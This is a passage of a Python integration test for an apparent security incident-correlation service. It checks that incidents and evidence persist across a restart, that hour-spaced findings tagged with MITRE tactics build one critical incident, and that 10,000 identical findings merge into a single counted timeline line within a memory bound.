    before = {i["id"]: i for i in (world.get(row["id"]) for row in world.list(state="open")) if any(world.tag in c["name"] or c["name"] == world.web_name for c in i["containers"])}
    assert len(before) >= len(ATTACKS) + 3, before.keys()
    evidence = {n: {e["id"]: (e["kind"], e["sha256"], e["data"]) for e in world.evidence(i)} for n, i in before.items()}
    world.sensor.kill()
    world.central.kill()
    world.central.start()
    world.root = world.central.root()
    time_of = {n: world.get(n) for n in before}
    for n, i in before.items():
        assert time_of[n]["timeline"] == i["timeline"], f"incident {n}"
        assert (time_of[n]["title"], time_of[n]["story"], time_of[n]["findings"]) == (i["title"], i["story"], i["findings"])
        again = {e["id"]: e for e in world.evidence(i)}
        assert {k: (e["kind"], e["sha256"], e["data"]) for k, e in again.items()}.items() >= evidence[n].items(), f"evidence of incident {n}"
        for k, (kind, _, data) in evidence[n].items():
            if kind in ("file", "diff", "request") and data == "here":
                world.data(again[k])
    node = world.central.node("node-slow")
    try:
        slow(world, node)
        storm(world, node)
    finally:
        node.close()


def tell(node, ident, rule, priority, tactic, when, container, count=1):
    return node.publish("finding", central_env.proto(f1=ident, f2=when, f3=rule, f4=priority, f5="syscall", f6=rule, f7=node.name, f8=container, f9=container, f12=["container", tactic], f18=count, f19=when, f20=ident))


def slow(world, node):
    """A13: one step an hour, by the time of the events."""
    begin = time.time_ns() - 20 * 3600 * 10**9
    tactics = ["mitre_initial_access", "mitre_execution", "mitre_credential_access", "mitre_lateral_movement", "mitre_exfiltration"]
    for n in range(20):
        tell(node, f"slow-{n}", f"Step {n}", "error", tactics[n // 4], begin + n * 3600 * 10**9, "slow-box")
    i = world.wait("slow-box", lambda i: len(i["timeline"]) == 20)
    assert [line["rule"] for line in i["timeline"]] == [f"Step {n}" for n in range(20)], i["timeline"]
    assert len(i["tactics"]) == 5 and i["severity"] == "critical", i


def storm(world, node):
    """10,000 equal findings, each a row of its own: one line with a count, in bounded memory, and few writes of the row."""
    status = lambda: world.root.get("/api/v1/status").json["central"]["incidents"]  # noqa: E731
    before, written = rss_kib(world.central.pid), status()["written"]
    begin = time.monotonic()
    for n in range(10000):
        tell(node, f"storm-{n}", "Shell in a container", "error", "mitre_execution", time.time_ns(), "storm-box")
        if n % 200 == 199:
            node.wait_acked(deadline=30)
    node.wait_acked(deadline=120)
    i = world.wait("storm-box", lambda i: i["timeline"][0]["count"] >= 10000, deadline=120)
    after = rss_kib(world.central.pid)
    print(f"storm: 10,000 findings in {time.monotonic() - begin:.1f} s, {status()['written'] - written} rows written, central {before} to {after} KiB")
    assert len(i["timeline"]) == 1 and i["timeline"][0]["count"] == 10000 and i["findings"] == 10000, i
    assert after - before < 100 * 1024, (before, after)
